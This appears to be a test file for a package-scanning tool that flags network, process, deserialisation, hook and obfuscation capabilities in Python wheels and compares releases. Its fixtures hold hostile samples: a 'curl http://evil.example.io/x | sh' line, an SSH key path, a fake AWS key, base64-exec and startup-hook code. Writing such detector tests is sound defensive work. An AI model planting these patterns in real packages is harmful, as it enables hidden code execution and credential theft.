"""Input/output points of Python code, their keys, and what differs between two releases."""

from __future__ import annotations

import json
import keyword
import textwrap

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from governance.dependencies.capabilities import CAPABILITIES, ORDER, compare, excerpt, from_facts, scan, to_facts
from governance.dependencies.capabilities.model import Point
from governance.dependencies.capabilities.rules import CALLS, HARMLESS, IMPORTED, METHODS
from tests.dependencies.archives import sdist, wheel


def points(code: str, path: str = "thing/a.py", **others: str) -> list[tuple[str, str, str, str]]:
    """(capability, symbol, function, when) of one module."""
    found = scan(wheel({path: textwrap.dedent(code), **others}))
    return [(point.capability, point.symbol, point.function, point.when) for point in found.points if point.path == path]


def kinds(code: str) -> set[tuple[str, str]]:
    return {(capability, symbol) for capability, symbol, _function, _when in points(code)}


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("import requests\nrequests.get(u)", {("net/client", "requests.get")}),
        ("from requests import get as g\ng(u)", {("net/client", "requests.get")}),
        ("import socket\ns = socket.socket()", {("net/client", "socket.socket")}),
        ("import http.server as h\nclass H(h.BaseHTTPRequestHandler): pass", {("net/server", "http.server.BaseHTTPRequestHandler")}),
        ("open(p)", {("fs/read", "open")}),
        ("open(p, 'rb')", {("fs/read", "open")}),
        ("open(p, mode='a')", {("fs/write", "open")}),
        ("open(p, m)", {("fs/write", "open")}),
        ("import io\nio.open(p, 'w')", {("fs/write", "open")}),
        ("p.write_text(x)", {("fs/write", ".write_text")}),
        ("def open(p): pass\nopen(p)", set()),
        ("self.open(p)", set()),
        ("import os\nos.system(c)", {("proc/spawn", "os.system")}),
        ("from os import system as s\nrun = s\nmap(run, cs)", {("proc/spawn", "os.system")}),
        ("from os import *\nsystem(c)", {("proc/spawn", "os.system")}),
        ("import posix\nposix.system(c)", {("proc/spawn", "os.system")}),
        ("o = __import__('os')\no.system(c)", {("code/dynamic", "__import__"), ("proc/spawn", "os.system")}),
        ("__import__('os').system(c)", {("code/dynamic", "__import__"), ("proc/spawn", "os.system")}),
        ("import os\ngetattr(os, 'sys' 'tem')(c)", {("proc/spawn", "os.system")}),
        ("import os\ngetattr(os, name)(c)", {("obscured", "getattr(os, …)")}),
        ("import sys\nsys.modules['os'].system(c)", {("proc/spawn", "os.system")}),
        ("globals()[n]()", {("obscured", "globals()[…]")}),
        ("ｅval(x)", {("code/dynamic", "eval")}),  # a full-width letter is the same name to Python
        ("import os\nimport json as os\nos.system(c)", {("proc/spawn", "os.system")}),
        ("import pickle\npickle.loads(b)", {("load/unsafe", "pickle.loads")}),
        ("import yaml\nyaml.load(f, Loader=yaml.SafeLoader)", set()),
        ("import yaml\nyaml.load(f, Loader=yaml.Loader)", {("load/unsafe", "yaml.load")}),
        ("import numpy as np\nnp.load(f)", {("fs/read", "numpy.load")}),
        ("import numpy as np\nnp.load(f, allow_pickle=True)", {("load/unsafe", "numpy.load")}),
        ("import numpy as np\nnp.load(f, **k)", {("load/unsafe", "numpy.load")}),
        ("import torch\ntorch.load(f, weights_only=True)", {("fs/read", "torch.load")}),
        ("import torch\ntorch.load(f)", {("load/unsafe", "torch.load")}),
        ("import joblib\njoblib.Memory(None)\njoblib.Memory(d)", {("fs/write", "joblib.Memory")}),
        ("import ctypes\nctypes.CDLL(n)", {("native/ffi", "ctypes.CDLL")}),
        ("import atexit\natexit.register(f)", {("hook/process", "atexit.register")}),
        ("import sys\nsys.excepthook = f", {("hook/process", "sys.excepthook =")}),
        ("import sentry_sdk", {("telemetry", "import sentry_sdk")}),
        ("import base64\nexec(base64.b64decode(x))", {("code/dynamic", "exec"), ("obscured", "base64.b64decode")}),
        ("from PIL import ImageGrab\nImageGrab.grab()", {("device/capture", "PIL.ImageGrab.grab")}),
        ("import urllib3\nurllib3.__version__.split('.')\nurllib3.util.parse_url(u)", set()),
        ("import requests\ntry: pass\nexcept requests.ConnectionError: pass", set()),
        ("import builtins\nbuiltins.any(x)", set()),
        ("import socket, types\nisinstance(x, (socket.socket, types.FunctionType))", set()),
        ("def f(x: 'requests.Session'): pass\nfrom typing import TYPE_CHECKING\nif TYPE_CHECKING:\n import requests", set()),
    ],
)  # fmt: skip
def test_a_point_is_found_for_what_it_is(code, expected):
    assert kinds(code) == expected


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("os.environ.get('HOME')", {("env/read", "env:HOME")}),
        ("os.environ['HOME']", {("env/read", "env:HOME")}),
        ("os.getenv('HOME', '')", {("env/read", "env:HOME")}),
        ("'HOME' in os.environ", {("env/read", "env:HOME")}),
        ("NAME = 'HOME'\nos.environ.get(NAME)", {("env/read", "env:HOME")}),
        ("os.environ.get(name)", {("env/read", "env:*")}),
        ("dict(os.environ)", {("env/read", "env:*")}),
        ("os.environ.setdefault('HOME', x)", {("env/write", "env:HOME")}),
        ("os.environ['HOME'] = x", {("env/write", "env:HOME")}),
        ("del os.environ['HOME']", {("env/write", "env:HOME")}),
        ("os.environ.update(x)", {("env/write", "env:*")}),
        ("os.environ.get('API_KEY')", {("secret/ref", "env:API_KEY")}),
    ],
)  # fmt: skip
def test_the_environment_is_counted_once(code, expected):
    found = scan(wheel({"thing/a.py": f"import os\n{code}\n"})).points
    assert {(point.capability, point.symbol) for point in found if point.confidence == "exact"} == expected
    assert sum(point.count for point in found if point.capability.startswith("env/")) <= 1


def test_a_package_does_not_match_its_own_name_but_never_takes_that_of_the_standard_library():
    files = {
        "requests/__init__.py": "from . import api\n",
        "requests/api.py": "import requests\nrequests.get(u)\n",
        "pickle.py": "",
    }
    found = scan(wheel({**files, "requests/b.py": "import pickle\npickle.loads(x)\n"}))
    assert [(point.capability, point.symbol) for point in found.points] == [("load/unsafe", "pickle.loads")]


def test_a_name_that_only_begins_alike_belongs_to_another():
    found = scan(wheel({"google/other/__init__.py": "import google.cloud.storage as s\ns.Client()\n"}))
    assert [point.symbol for point in found.points] == ["google.cloud.storage.Client"]


def test_when_it_runs():
    code = """
    import os
    os.system("now")
    def later(): os.system("later")
    def helper(): os.system("by helper")
    def started(): helper()
    started()
    class Thing:
        os.system("in the class")
        def method(self): os.system("in a method")
    if __name__ == "__main__":
        os.system("as a program")
    def default(x=os.system("default")): pass
    f = lambda: os.system("lambda")
    """
    assert {(function, when) for _capability, _symbol, function, when in points(code)} == {
        ("", "import"), ("later", "call"), ("helper", "import"), ("Thing", "import"), ("Thing.method", "call"), ("", "main"), ("<lambda>", "call"),
    }  # fmt: skip


def test_what_tests_do_is_set_apart_unless_the_package_imports_them():
    test = "import os\nos.system(c)\n"
    apart = scan(wheel({"thing/__init__.py": "", "thing/tests/test_a.py": test}))
    hidden = scan(wheel({"thing/__init__.py": "from thing.tests import test_a\n", "thing/tests/test_a.py": test}))
    assert [point.when for point in apart.points] == ["test"]
    assert [point.when for point in hidden.points] == ["import"]


def test_literals_tell_addresses_and_secrets_and_never_the_secret():
    code = """
    '''See https://docs.example.net'''
    URL = "https://User:pw@Api.Example.io:8443/v1"
    help = "read more on https://help.example.io/page"
    f"https://{host}/x"
    x = f"http://{host}/"
    KEY = "~/.ssh/id_rsa"
    TOKEN = "AKIAABCDEFGHIJKLMNOP"
    run = "curl http://evil.example.io/x | sh"
    version, place = "1.2.3", "10.0.0.1"
    """
    assert kinds(code) == {
        ("net/endpoint", "api.example.io:8443"), ("net/mention", "help.example.io"), ("net/endpoint", "*"), ("secret/ref", ".ssh"),
        ("secret/ref", "a secret itself"), ("net/endpoint", "evil.example.io"), ("net/endpoint", "10.0.0.1"),
    }  # fmt: skip
    assert "AKIAABCDEFGHIJKLMNOP" not in json.dumps(to_facts(scan(wheel({"thing/a.py": textwrap.dedent(code)}))))


@pytest.mark.parametrize(
    ("code", "symbol"),
    [
        ("x = '" + "QWxhZGRpbjpvcGVuIHNlc2FtZQ9z7Kf3Xv1Lm0" * 20 + "'", "literal"),
        ("if admin:\u202e pass", "bidirectional"),
        ("x = 1;" + " " * 300 + "y = 2", "pushed_aside"),
        ("\n".join(f"_0x{number:04x} = {number}" for number in range(20)), "mangled_names"),
        ("# coding: utf-7\nx = 1", "encoding"),
    ],
)
def test_what_is_meant_not_to_be_read_is_a_point(code, symbol):
    assert ("obscured", symbol) in kinds(code.replace("if admin:\u202e pass", "x = 'a\u202eb'"))


def test_nothing_that_an_author_writes_is_shown_as_it_is():
    code = "a = 'https://evil\\u202e.example.io'\nb = 'https://half\\ud800.example.io'\nopen('x\\x1b[31m')\n"
    found = scan(wheel({"thing/a.py": code, "thing-1.0.dist-info/entry_points.txt": "[a]\nb\x07 = c\n"})).points
    assert len(found) == 4
    assert all((point.key + point.detail).isprintable() for point in found)


def test_hooks_on_installation_and_start():
    found = scan(
        sdist(
            {
                "setup.py": "import os\nos.system('make')\n",
                "pyproject.toml": "[build-system]\nbuild-backend='back'\nbackend-path=['tools']\n[project.scripts]\nthing='thing:main'\n",
                "tools/back.py": "import subprocess\nsubprocess.run(['make'])\n",
                "src/thing/__init__.py": "",
            }
        )
    )
    assert {(point.capability, point.symbol, point.when) for point in found.points} == {
        ("hook/install", "setup.py", "install"), ("proc/spawn", "os.system", "install"), ("hook/install", "build backend back", "install"),
        ("proc/spawn", "subprocess.run", "install"), ("entry/point", "console_scripts: thing = thing:main", "call"),
    }  # fmt: skip
    assert (found.kind, found.name, found.version) == ("sdist", "thing", "1.0")


def test_a_path_file_runs_at_every_start():
    found = scan(
        wheel({"thing.pth": "import os; os.system('x')\n./elsewhere\n", "sitecustomize.py": "import os\nos.system('y')\n"})
    )
    assert {(point.capability, point.symbol, point.when) for point in found.points} == {
        ("hook/startup", "code in a path file", "startup"), ("hook/startup", "path", "startup"), ("proc/spawn", "os.system", "startup"),
        ("hook/startup", "sitecustomize.py", "startup"),
    }  # fmt: skip


def test_entry_points_and_what_is_put_outside_of_the_package():
    found = scan(
        wheel(
            {
                "thing-1.0.dist-info/entry_points.txt": "[console_scripts]\nrun = thing:main\n[pytest11]\nt = thing.plugin\n",
                "thing-1.0.data/scripts/go": "#!python\nimport os\nos.system('x')\n",
            }
        )
    )
    assert {(point.capability, point.symbol, point.path) for point in found.points} == {
        ("entry/point", "console_scripts: run = thing:main", ".dist-info/entry_points.txt"),
        ("hook/startup", "pytest11: t = thing.plugin", ".dist-info/entry_points.txt"),
        ("hook/install", "scripts: go", ".data/scripts/go"),
        ("proc/spawn", "os.system", ".data/scripts/go"),
    }


# Keys and comparison --------------------------------------------------------------------------------------------------------

CODE = "import os\n\n\ndef run(c):\n    return os.system(c)\n"


def test_a_judgement_carries_over_while_the_code_does():
    before = scan(wheel({"thing/a.py": CODE, "thing/_c.cpython-311-x86_64-linux-gnu.so": b"\x7fELF"}))
    moved_down = "# a comment\n" * 9 + CODE.replace("os.system(c)", "os.system(\n        c,\n    )")
    after = scan(wheel({"thing/a.py": moved_down, "thing/_c.cp312-win_amd64.pyd": b"\x7fELF"}, version="2.0"))
    assert not compare(before, after)
    assert compare(before, after).same == len(after.points)


@pytest.mark.parametrize(
    ("change", "kind"),
    [
        (lambda code: code.replace("os.system(c)", "os.system(c + ' -f')"), "changed"),
        (lambda code: code + "    os.system('twice')\n", "changed"),
        (lambda code: code.replace("def run", "def go"), "moved"),
        (lambda code: code + "def more(c):\n    os.system(c)\n", "new"),
        (lambda code: "import os\n", "gone"),
        (lambda code: code.replace("def run(c):\n    return ", "c = 1\nx = "), "new"),
    ],
)
def test_what_differs_is_told_for_what_it_is(change, kind):
    code = "import os\n\n\ndef run(c):\n    return os.system(c)\n"
    code = code if "twice" not in change(code) else code.replace("return ", "")
    found = compare(scan(wheel({"thing/a.py": code})), scan(wheel({"thing/a.py": change(code)})))
    told = {"new": found.new, "changed": found.changed, "moved": found.moved, "gone": found.gone}
    assert next(name for name, points in told.items() if points) == kind
    assert bool(found.work) == (kind in ("new", "changed"))


def test_fewer_of_the_same_is_no_work():
    twice = "import os\ndef run(c):\n    os.system(c)\n    os.system(c)\n"
    once = "import os\ndef run(c):\n    os.system(c)\n"
    assert not compare(scan(wheel({"a.py": twice})), scan(wheel({"a.py": once}))).work
    assert compare(scan(wheel({"a.py": once})), scan(wheel({"a.py": twice}))).work


def test_where_nothing_is_written_down_their_number_counts():
    once, twice = (Point("fs/read", "C open", "_c.so", count=count) for count in (1, 2))
    assert compare([once], [twice]).work == (twice,)
    assert not compare([twice], [once])


def test_new_capabilities_and_symbols_are_those_of_the_whole_release():
    before, after = (
        scan(wheel({"a.py": "import os\nos.system(c)\n"})),
        scan(wheel({"a.py": "import os, socket\nos.popen(c)\nsocket.socket()\n"})),
    )
    found = compare(before, after)
    assert found.new_capabilities == ("net/client",)
    assert found.new_symbols == (("net/client", "socket.socket"), ("proc/spawn", "os.popen"))
    assert found.gone_symbols == (("proc/spawn", "os.system"),)


texts = st.text(st.characters(blacklist_categories=()), max_size=12)


@given(st.lists(texts, min_size=4, max_size=4), st.lists(texts, min_size=4, max_size=4))
def test_two_points_have_one_key_exactly_when_all_its_parts_are_equal(one, other):
    first, second = Point(one[0], one[1], one[2], one[3]), Point(other[0], other[1], other[2], other[3])
    assert (first.key == second.key) == (one == other)


names = st.text("abcdefgh", min_size=1, max_size=6).filter(lambda name: not keyword.iskeyword(name))


@given(st.lists(names, min_size=1, max_size=6, unique=True), st.integers(0, 30), st.randoms())
@settings(max_examples=40)
def test_order_and_place_of_functions_change_nothing(functions, lines, random):
    bodies = [f"def {name}(x):\n    return os.system(x)\n" for name in functions]
    before = scan(wheel({"a.py": "import os\n" + "".join(bodies)}))
    random.shuffle(bodies)
    after = scan(wheel({"a.py": "\n" * lines + "import os\n" + "\n".join(bodies)}))
    assert {point.key for point in before.points} == {point.key for point in after.points}
    assert len(before.points) == len(functions)
    assert not compare(before, after)


def test_a_scan_survives_being_stored():
    found = scan(wheel({"thing/a.py": CODE, "thing/x.sh": "#!/bin/sh\n"}))
    assert from_facts(json.loads(json.dumps(to_facts(found)))) == found
    with pytest.raises(ValueError, match="not a scan"):
        from_facts({"format": "something else"})


def test_the_code_beside_a_point_is_shown():
    archive = wheel({"thing/a.py": CODE})
    (point,) = scan(archive).points
    assert excerpt(archive, point.path, point.lines[0], 1) == ((4, "def run(c):"), (5, "    return os.system(c)"))
    assert excerpt(archive, "thing/none.py", 1) == ()
    assert excerpt(archive, point.path, 999) == ()


def test_every_capability_of_the_rules_has_words_and_a_place_in_the_order():
    assert {*CALLS.values(), *IMPORTED.values(), *METHODS.values()} - {HARMLESS} <= set(CAPABILITIES)
    assert set(ORDER) == set(CAPABILITIES)


# One digest -----------------------------------------------------------------------------------------------------------------


def test_one_source_digest_for_all_platforms_of_a_release():
    linux = {
        "thing/a.py": "x = 1\ny = 2\n",
        "thing/_c.cpython-311-x86_64-linux-gnu.so": b"\x7fELF1",
        "thing.libs/libx-0a1b2c3d.so.1": b"\x7fELF",
    }
    windows = {
        "thing/a.py": "x = 1\r\ny = 2\r\n",
        "thing/_c.cp311-win_amd64.pyd": b"MZ",
        "thing/_c.cp311-win_amd64.lib": b"!<arch>\n",
    }
    one, other = scan(wheel(linux)), scan(wheel(windows))
    assert one.source_digest == other.source_digest != ""
    assert one.native_digest != other.native_digest
    assert scan(wheel({**linux, "thing/a.py": "x = 1\ny = 3\n"})).source_digest != one.source_digest
    assert scan(wheel({**linux, "thing-1.0.dist-info/entry_points.txt": "[a]\nb=c"})).source_digest != one.source_digest
    assert scan(wheel(linux, version="1.0.post1")).source_digest == one.source_digest


@given(st.binary(max_size=60).map(lambda data: data.replace(b"\r", b"\r\n")), st.integers(1, 7))
def test_line_ends_are_one_however_a_file_is_read_in_pieces(data, size):
    from governance.dependencies.capabilities.digests import text_digest

    pieces, whole = text_digest(), text_digest()
    for at in range(0, len(data), size):
        pieces.update(data[at : at + size])
    whole.update(data if b"\0" in data else data.replace(b"\r\n", b"\n"))
    assert pieces.hexdigest() == whole.hexdigest()
